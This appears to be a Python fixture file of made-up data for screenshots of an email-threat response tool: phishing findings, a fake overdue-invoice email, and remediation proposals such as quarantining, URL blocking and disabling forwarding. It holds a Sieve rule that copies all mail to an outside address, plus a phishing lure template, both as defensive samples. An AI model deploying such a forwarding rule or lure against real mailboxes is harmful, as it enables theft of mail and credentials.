# SPDX-License-Identifier: GPL-3.0-or-later
"""What stands in the pictures of the window: made up, so that they may be shown to everybody."""

# What the detectors have found: title, words of the subjects, verdict, severity.
FINDINGS = (
    ("Prize notifications", "Gewinn", "suspicious", "Low"),
    ("Shared documents from outside", "Shared document", "suspicious", "Medium"),
    ("Voicemail notifications with links", "Voicemail", "suspicious", "Low"),
    ("Mail reported as phishing: mailbox quota", "mailbox is almost full", "malicious", "High"),
    ("Fake invoices from pay-invoices.example", "Invoice", "malicious", "High"),
    ("Parcel fee messages", "parcel", "suspicious", "Medium"),
    ("Sign-in pages that collect passwords", "sign-in", "malicious", "Medium"),
    ("Payroll portal that is not ours", "Salary", "malicious", "High"),
)

SENDER = "billing@pay-invoices.example"
URL = "http://login.pay-invoices.example/portal/session/4711?continue=account"
FILE = {"type": "file", "fileName": "invoice-viewer.bin", "sha256": "ab" * 32}
SCRIPT = b'require "copy";\nredirect :copy "archive@collect.example";\n'
# What is in every mailbox of the example: subject and name.
LETTERS = (("Overdue: invoice 8812", "first"), ("Overdue: invoice 8813", "second"),
           ("Your statement of account", "third"))
# Whoever reads it must not lose the end of it, and no column may be pushed out by it.
LONG = ("Re: Fwd: Re: The minutes of the meeting of the working group on the reorganisation of the "
        "regional branches, with all annexes, corrections and the list of those who could not come "
        "(second, corrected version, please do not use the first one any more)")
LONG_WORD = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 3
LOG = [{"id": f"step-{number}", "actionType": kind, "action": action, "status": status,
        "description": text, "createdAt": f"2026-11-20T08:{number:02}:01Z",
        "startedAt": f"2026-11-20T08:{number:02}:02Z", "durationSeconds": 7 * number + 3}
       for number, (kind, action, status, text) in enumerate((
           ("Analysis", "Look up the sender", "Completed", "The domain was registered yesterday."),
           ("Analysis", "Open the link in a sandbox", "Completed", "It asks for a password."),
           ("Analysis", "Compare the attachment", "Skipped", "There is none."),
           ("Search", "Find similar mail", "Completed", "24 messages in 8 mailboxes."),
           ("Analysis", "Ask the reputation service", "Failed", "It has not answered in time.")))]
ALERTS = [{"id": f"alert-{number}", "title": title, "severity": severity, "category": "Initial access",
           "source": "Mail gateway", "receivedAt": f"2026-11-20T08:0{number}:00Z"}
          for number, (title, severity) in enumerate((("A user has reported phishing", "high"),
                                                      ("Mail from a new domain", "low")))]


def letter(mailbox, subject, name, attachment=False):
    """A message in bytes."""
    head = (f"From: Billing <{SENDER}>\r\nTo: {mailbox}\r\nSubject: {subject}\r\n"
            f"Message-ID: <{name}.{mailbox.partition('@')[0]}@pay-invoices.example>\r\n"
            "Date: Thu, 19 Nov 2026 08:12:00 +0000\r\nMIME-Version: 1.0\r\n")
    text = f"Please pay at once, at\r\n{URL}\r\nor your account will be closed.\r\n"
    if not attachment:
        return f"{head}\r\n{text}".encode()
    return (f'{head}Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
            f"Content-Type: text/plain\r\n\r\n{text}\r\n--b\r\nContent-Type: application/zip\r\n"
            'Content-Disposition: attachment; filename="invoice-8812.zip"\r\n\r\n'
            "UEsDBA==\r\n--b--\r\n").encode()


def one_of_each(mailbox, other, device, path, file):
    """A proposal of each of the seven types. @file: the entity of a file on a device."""
    name = mailbox.partition("@")[0]
    message = {"type": "emailMessage", "sender": SENDER, "recipients": [mailbox], "spf": "fail",
               "dkim": "none", "dmarc": "fail", "threats": ["Phish"], "deliveryStatus": "Delivered",
               "folder": "INBOX", "receivedAt": "2026-11-19T08:12:00Z"}
    reason = "The message imitates a service that the recipient uses."
    return [
        {"type": "softDeleteEmail", "verdict": "malicious", "assets": [mailbox], "reason": reason,
         "source": "automatedEmail",
         "entity": {**message, "messageId": f"<first.{name}@pay-invoices.example>",
                    "subject": LETTERS[0][0]}},
        {"type": "softDeleteEmailCluster", "verdict": "suspicious", "assets": [other],
         "reason": "They come from one sender, and one of them is known to steal passwords.",
         "source": "automatedEmail",
         "entity": {"type": "emailCluster", "name": "Invoices of one sender", "sender": SENDER,
                    "emailCount": 3, "malwareCount": 1, "phishCount": 2, "mailboxCount": 1,
                    "deliveredCount": 3}},
        {"type": "quarantineEmail", "verdict": "malicious", "assets": [mailbox], "reason": reason,
         "source": "manual",
         "entity": {**message, "messageId": f"<second.{name}@pay-invoices.example>",
                    "subject": LETTERS[1][0]}},
        {"type": "quarantineAttachment", "verdict": "malicious", "assets": [mailbox],
         "source": "automatedEmail", "reason": "The archive holds a program.",
         "entity": {"type": "attachment", "fileName": "invoice-8812.zip",
                    "messageId": f"<third.{name}@pay-invoices.example>"}},
        {"type": "blockUrl", "verdict": "malicious", "assets": ["proxy"], "source": "automatedEmail",
         "reason": "The page asks for a password.",
         "entity": {"type": "url", "url": URL, "domain": "login.pay-invoices.example",
                    "threats": ["Phish"]}},
        {"type": "turnOffMailForwarding", "verdict": "suspicious", "assets": [mailbox],
         "source": "manual", "reason": "The address is new, and outside.",
         "entity": {"type": "mailbox", "address": mailbox, "riskLevel": "High",
                    "forwardingTargets": ["archive@collect.example"]}},
        {"type": "quarantineFile", "verdict": "unknown", "assets": [device],
         "source": "automatedDevice", "reason": "Nobody has seen this file before.",
         "entity": {**file, "path": path}},
    ]


def long_ones():
    """Actions with texts that do not fit anywhere, in several ways of writing."""
    subjects = (LONG, LONG_WORD, "تنبيه: فاتورة متأخرة يجب دفعها اليوم قبل إغلاق حسابك البريدي نهائياً",
                "請立即付款,否則您的帳戶將被關閉", "💸 " * 40)
    return [{"type": "softDeleteEmail", "verdict": "malicious", "reason": f"{LONG}. {LONG_WORD}",
             "assets": [f"{LONG_WORD[:60].lower()}.{number}@example.test"
                        for number in range(30 if index == 0 else 1)],
             "entity": {"type": "emailMessage", "messageId": f"<{index}.{LONG_WORD}@long.example>",
                        "subject": subject, "sender": f"{LONG_WORD[:60].lower()}@long.example",
                        "recipients": [f"recipient-{number}@example.test" for number in range(30)],
                        "threats": ["Phish", "Malware", "Spam", LONG], "deliveryStatus": "Delivered"}}
            for index, subject in reversed(list(enumerate(subjects)))]


def much_evidence():
    """So much that a list of it scrolls."""
    return [{"entity": {"type": "url", "url": f"https://{number}.phish.example/{LONG_WORD}"},
             "verdict": ("malicious", "suspicious", "noThreatsFound", "unknown")[number % 4],
             "detectionOrigin": LONG if number == 0 else "Mail gateway",
             "assets": [f"person-{number}@example.test"]} for number in range(80)]
